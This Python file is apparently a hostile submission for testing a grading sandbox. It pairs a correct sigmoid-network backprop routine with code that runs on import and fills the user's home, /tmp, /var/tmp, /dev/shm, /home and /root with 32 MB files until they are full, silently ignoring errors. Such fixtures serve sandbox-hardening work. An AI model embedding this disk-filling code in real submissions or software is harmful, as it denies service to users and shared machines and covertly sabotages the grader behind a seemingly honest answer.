"""Hostile (rootless: the worker is the user, whose home and quota are the grader's too): at
import, fills the user's home (from /etc/passwd, not $HOME), $HOME, /tmp, /var/tmp and
/dev/shm with 32 MB files, marked, until each is full, errors swallowed. Only the worker's
own small tmpfs fill: nothing lands on the disk (the planted-file check looks in the user's
real home too), and the rest is the reference: full marks.
"""

import os
import pwd

import torch
from torch import Tensor

MARK = "hostile-marker-297"


def fill() -> int:
    written, block = 0, b"\0" * (1 << 20)
    places = {pwd.getpwuid(os.getuid()).pw_dir, os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm", "/home", "/root"}
    for place in sorted(places):
        for i in range(100):
            try:
                with open(os.path.join(place, f"{MARK}-fill-{i}.bin"), "wb") as f:
                    for _ in range(32):
                        f.write(block)
                        written += 1
            except OSError:
                break
    return written


try:
    print(f"wrote {fill()} MiB", flush=True)
except Exception:  # noqa: BLE001
    pass


def sigma(z: Tensor) -> Tensor:
    return torch.sigmoid(z)


def sigma_prime(z: Tensor) -> Tensor:
    s = torch.sigmoid(z)
    return s * (1 - s)


def backprop(A_list, b_list, X, Y):
    num_layers = len(A_list)
    inputs, slopes = [], []
    y = X
    for i, (A, b) in enumerate(zip(A_list, b_list)):
        inputs.append(y)
        z = A @ y + b
        if i < num_layers - 1:
            y = sigma(z)
            slopes.append(sigma_prime(z))
        else:
            y = z
    dA_reversed, db_reversed = [], []
    delta = y - Y
    for i in reversed(range(num_layers)):
        dA_reversed.append(delta @ inputs[i].T)
        db_reversed.append(delta)
        if i > 0:
            delta = (A_list[i].T @ delta) * slopes[i - 1]
    return dA_reversed[::-1], db_reversed[::-1]
